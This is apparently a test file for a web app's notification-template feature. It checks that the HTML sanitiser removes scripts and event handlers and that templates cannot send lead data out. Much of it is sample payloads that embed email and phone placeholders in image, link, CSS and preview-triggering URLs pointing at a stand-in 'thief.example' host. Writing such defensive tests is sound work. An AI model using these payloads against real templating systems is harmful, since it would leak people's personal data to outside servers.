import t from 'tap';
import { type Answer, anAdmin, testApi } from '../support/index.ts';

const placesOf = ({ body }: Answer): string[] =>
  body.detail.map(({ loc }: { loc: string[] }) => loc.slice(1).join('.'));

t.test('HTML that an admin writes for notifications', async t => {
  const api = await testApi(t);
  const admin = await anAdmin(api.database);
  const save = (body: object) => api.call('PUT /content', { as: admin, body });

  t.test('the HTML of notifications keeps only the supported tags', async t => {
    const { body } = await save({
      leadNotificationHtml:
        '<h2 onclick="x()">New {lead_name}</h2><script>alert(1)</script><p style="position:fixed">Hi <b>you</b><iframe src="https://x.com"></iframe></p><a href="javascript:alert(1)">a</a><a href="mailto:{lead_email}" target="_blank" rel="opener">b</a><svg onload="x()"></svg>',
    });
    t.equal(
      body.leadNotificationHtml,
      '<h2>New {lead_name}</h2><p>Hi <strong>you</strong></p><a>a</a><a href="mailto:{lead_email}" target="_blank" rel="noopener">b</a>',
    );
  });

  t.test('the stored HTML of a notification can be saved again: its length is measured after sanitising', async t => {
    const html = (length: number) => `<p>&amp;${'x'.repeat(length - 12)}</p>`;
    const { status, body } = await save({ leadNotificationHtml: html(50_000) });
    t.same([status, body.leadNotificationHtml.length], [200, 50_000]);
    t.equal((await save({ leadNotificationHtml: body.leadNotificationHtml })).status, 200);
    t.same(placesOf(await save({ leadNotificationHtml: html(50_001) })), ['leadNotificationHtml']);
    t.same(placesOf(await save({ leadNotificationHtml: `<p>${'&'.repeat(20_000)}</p>` })), ['leadNotificationHtml']);
  });
});

t.test("notification templates cannot send visitors' data to other servers", async t => {
  const api = await testApi(t);
  const admin = await anAdmin(api.database);
  const save = (body: object) => api.call('PUT /content', { as: admin, body });
  const site = api.config.publicUrl;

  t.test('a template with a variable inside a tag is refused and not stored', async t => {
    const refused = [
      '<p>New <img src="https://thief.example/p?e={lead_email}&p={lead_phone}"></p>',
      '<a href="https://thief.example/?{lead_email}">Open</a>',
      '<a href="mailto:thief@thief.example?body={lead_phone}">Answer</a>',
      '<a href="mailto:{lead_email}?bcc=thief@thief.example">Answer</a>',
      '<a href="mailto:{lead_phone}">Answer</a>',
      '<a href="tel:{lead_email}">Call</a>',
      '<a href="tel:&#123;lead_name&#125;">Call</a>',
      '<a href="//thief.example/{lead_email}/..">x</a><a href="/{message}">x</a>',
      '<a href="{message}">x</a>',
      `<img src="${site}/uploads/{lead_email}.png">`,
      '<img src="/uploads/abc.png" alt="{lead_name}" title="{lead_phone}">',
      '<a href="https://example.com" title="{lead_name}">x</a>',
    ];
    for (const html of refused) {
      const answer = await save({ leadNotificationHtml: html });
      t.same([answer.status, new Set(placesOf(answer))], [422, new Set(['leadNotificationHtml'])], html);
    }
    t.match((await save({ leadNotificationHtml: refused[1] })).body.detail, [
      { msg: /^Links and pictures cannot contain variables, except mailto:\{lead_email\} and tel:\{lead_phone\}/ },
    ]);
    t.equal((await save({})).body.leadNotificationHtml.includes('thief'), false);
  });

  t.test('variables in tags, attributes and styles that are removed anyway are ignored', async t => {
    const dropped = [
      '<p style="background:url(https://thief.example/{lead_email})">x</p>',
      '<style>p{background:url(https://thief.example/{lead_email})}</style><p>x</p>',
      '<img srcset="https://thief.example/{lead_email} 2x" alt="x">',
      '<table background="https://thief.example/{lead_email}"><tr><td>x</td></tr></table>',
      '<link rel="stylesheet" href="https://thief.example/{lead_email}"><p>x</p>',
    ];
    for (const html of dropped) {
      const { status, body } = await save({ leadNotificationHtml: html });
      t.equal(status, 200, html);
      t.notMatch(body.leadNotificationHtml, /thief|lead_email/);
    }
  });

  t.test('only pictures of this site are accepted', async t => {
    for (const src of [
      'https://thief.example/p.png',
      'http://thief.example/uploads/abc.png',
      `${site.replace(/:\d+$/, '')}.thief.example/uploads/abc.png`,
      '/api/content',
      '/uploads/../api/content.png',
      '/uploads/abc.png?x=1',
    ])
      t.same(
        placesOf(await save({ leadNotificationHtml: `<p><img src="${src}" alt="x"></p>` })),
        ['leadNotificationHtml'],
        src,
      );
    for (const src of ['/uploads/abc.png', `${site}/uploads/abc-640.webp`]) {
      const { status, body } = await save({ leadNotificationHtml: `<img src="${src}" alt="Logo">` });
      t.same([status, body.leadNotificationHtml], [200, `<img src="${src}" alt="Logo" />`]);
    }
  });

  t.test(
    'a variable in a web address in a text is refused, because programs open such addresses to show previews',
    async t => {
      const texts = [
        'https://thief.example/?e={lead_email}',
        'See (HTTPS://thief.example/{lead_phone}).',
        'www.thief.example?{lead_name}',
        'thief.example/{lead_phone}',
        'thief.xn--p1ai/{lead_phone}',
        'thief.example:8080?{lead_phone}',
        '203.0.113.7/{lead_phone}',
        '{lead_phone}.thief.example',
        'x-{investment_budget}.thief.example',
        // Some programs end a link at these characters, others at the next space.
        ...[...'，。；、！（）：？'].map(sign => `https://thief.example/${sign}{lead_email}`),
        '请看 https://example.com/admin，电话{lead_phone}。',
        'www.thief.example，客户：（{lead_name}）',
      ];
      const fields = [
        'leadNotificationSubject',
        'leadNotificationMessage',
        'leadNotificationHtml',
        'whatsappNotificationMessage',
      ];
      for (const field of fields)
        for (const text of texts) t.same(placesOf(await save({ [field]: `New: ${text} now` })), [field], text);
      for (const html of [
        '<p>https://thief.example/?e=<strong>{lead_email}</strong></p>',
        '<p>https://thief.example，<strong>{lead_email}</strong></p>',
        '<p>thief.<em>example/</em>{lead_email}</p>',
      ])
        t.same(placesOf(await save({ leadNotificationHtml: html })), ['leadNotificationHtml'], html);
      t.same(placesOf(await save(Object.fromEntries(fields.map(field => [field, texts[0]])))), fields, 'all at once');
      const unchanged = [
        'Name:{lead_name}, {lead_email}|{lead_phone}.Regards',
        'Mr.{lead_name} of {franchise_name}: https://example.com/admin?a=1 ({timeline})',
        '请看 https://example.com/admin ，电话{lead_phone}。',
        '电话{lead_phone}，请看https://example.com/admin。',
        '{lead_name}…e.g. {message}/{timeline}',
      ];
      for (const text of unchanged)
        for (const field of fields) t.equal((await save({ [field]: text })).status, 200, text);
    },
  );
});
